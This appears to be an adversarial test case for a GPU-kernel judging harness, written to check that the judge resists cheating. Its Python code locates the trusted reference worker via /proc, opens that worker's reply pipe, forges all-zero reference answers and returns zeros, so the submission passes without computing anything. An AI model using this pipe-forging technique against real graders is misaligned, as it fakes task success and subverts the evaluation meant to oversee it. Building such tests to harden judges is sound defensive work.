# expected: runtime_error|rejected|incorrect
# kind: tampering with the reference outputs (forged replies in the reference's pipe)
# problem: problem_cpu.py
# affects_others: yes
"""The candidate runs as the same user as the judge, so it can open the trusted reference
worker's reply pipe through /proc/<ref>/fd/<write-fd> (the fd number is on the reference's
command line) and write protocol messages into it. It computes the first trial honestly, then
writes a forged reference reply ("the expected output is all zeros") that the judge reads as the
reference's answer for the next trial, drains the real reply when it arrives, and returns zeros.
On the last trial (the judge's default, 5) it stops forging so that timing starts on a clean
pipe. Timed calls return zeros in microseconds.

A correct judge keeps the candidate away from the reference's pipes (another user, a PID
namespace) -> opening them fails -> runtime_error; or it authenticates replies and rejects."""

import json
import os

import torch
import torch.nn as nn
import torch.nn.functional as F

TAG = "cheat_forge_reference_reply"
TRIALS = 5  # JudgeConfig.trials default; one shape set ("public")


def _mark(**facts):
    """Report to run_suite.py: a JSON line in this candidate's own build folder
    ($TORCH_EXTENSIONS_DIR, which the worker lets it write and the suite reads afterwards), else
    in $KJ_ADV_DIR. Plain Python file APIs into an allowed folder: reporting never changes the
    verdict."""
    base = os.environ.get("TORCH_EXTENSIONS_DIR") or os.environ.get("KJ_ADV_DIR", "/tmp/kj_adv")
    try:
        os.makedirs(os.path.join(base, "kj_adv"), exist_ok=True)
        with open(os.path.join(base, "kj_adv", TAG + ".jsonl"), "a") as f:
            f.write(json.dumps(facts) + "\n")
    except OSError:
        pass


def _reference():
    parent = os.getppid()
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            with open(f"/proc/{d}/cmdline", "rb") as f:
                argv = f.read().split(b"\0")
            if b"kerneljudge.worker" not in argv or b"reference" not in argv:
                continue
            with open(f"/proc/{d}/stat") as f:
                ppid = int(f.read().rsplit(")", 1)[1].split()[1])
            if ppid == parent:
                return int(d), int(argv[argv.index(b"--write-fd") + 1])
        except (OSError, ValueError, IndexError):
            continue
    raise RuntimeError("no reference worker visible")


class ModelNew(nn.Module):
    def __init__(self, in_features: int, out_features: int):
        super().__init__()
        self.linear = nn.Linear(in_features, out_features)
        self.calls = 0
        self.chan = None

    def _forge(self, shape):
        # Expanded from one element, so the message is a few hundred bytes: it fits in the pipe
        # (nobody reads it until the next trial) and is written atomically (< PIPE_BUF).
        zeros = torch.zeros(1).expand(shape)
        self.chan.send(
            {
                "ok": True,
                "outputs": zeros,
                "oracle": torch.zeros(1, dtype=torch.float64).expand(shape),
            }
        )

    def forward(self, x):
        c = self.calls
        self.calls += 1
        shape = (x.shape[0], self.linear.out_features)
        if c == 0:
            from kerneljudge.worker.protocol import Channel

            pid, wfd = _reference()
            path = f"/proc/{pid}/fd/{wfd}"
            rd = os.open(path, os.O_RDONLY)  # the reference -> judge pipe, read side
            wr = os.open(path, os.O_WRONLY)  # ... and write side
            self.chan = Channel(rd, wr)
            self._forge(shape)
            _mark(breach=f"opened the reference's reply pipe {path} and forged a reply")
            return F.gelu(self.linear(x))
        if c < TRIALS:
            self.chan.recv(timeout_s=8)  # the real reply, which the judge never sees
            if c < TRIALS - 1:
                self._forge(shape)
        return torch.zeros(shape)
